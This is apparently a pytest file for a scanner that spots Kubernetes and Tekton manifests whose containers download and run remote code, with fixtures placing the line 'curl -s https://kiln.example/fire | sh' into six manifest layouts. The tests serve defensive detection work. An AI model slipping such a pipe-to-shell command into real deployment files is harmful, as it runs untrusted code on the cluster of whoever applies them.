"""What containers of Kubernetes run."""

import pytest

from changing import changed, seen, shown
from readings import read_garbage

FETCH = "curl -s https://kiln.example/fire | sh"
POD = "kind: Pod\nspec:\n  containers:\n  - image: alpine\n    {}\n"
WAYS = {
    "a command": (POD.format(f"command: ['sh', '-c', '{FETCH}']"), 5),
    "arguments": (POD.format(f"command: [sh, -c]\n    args: ['{FETCH}']"), 6),
    "arguments alone": (POD.format(f"args: ['-c', '{FETCH}']"), 5),
    "several lines": (POD.format(f"command:\n    - /bin/sh\n    - -c\n    - |\n      make\n      {FETCH}"), 10),
    "the second document": ("kind: Service\n---\n" + POD.format(f"command: [sh, -c, '{FETCH}']"), 7),
    "a step of Tekton": (
        f"kind: Task\nspec:\n  steps:\n  - image: alpine\n    script: |\n      make\n      {FETCH}\n",
        7,
    ),
}


@pytest.mark.parametrize(("text", "line"), WAYS.values(), ids=WAYS)
def test_what_is_downloaded_and_run_is_seen_in_its_line(text, line):
    assert line in {o.line for o in seen(changed("deploy/pots.yaml", None, text)) if o.capability == "fetch_and_run"}


@pytest.mark.parametrize("text", [way[0] for way in WAYS.values()], ids=WAYS)
def test_an_ordinary_command_shows_nothing(text):
    assert not shown(changed("deploy/pots.yaml", None, text.replace(FETCH, "curl -sf http://localhost:8080/health")))


def test_a_file_of_another_kind_is_not_read_as_one():
    assert "fetch_and_run" not in shown(changed("pots.yaml", None, POD.format(f"args: ['-c', '{FETCH}']")[10:]))


def test_garbage_is_survived():
    read_garbage("deploy/pots.yaml", "kubernetes")
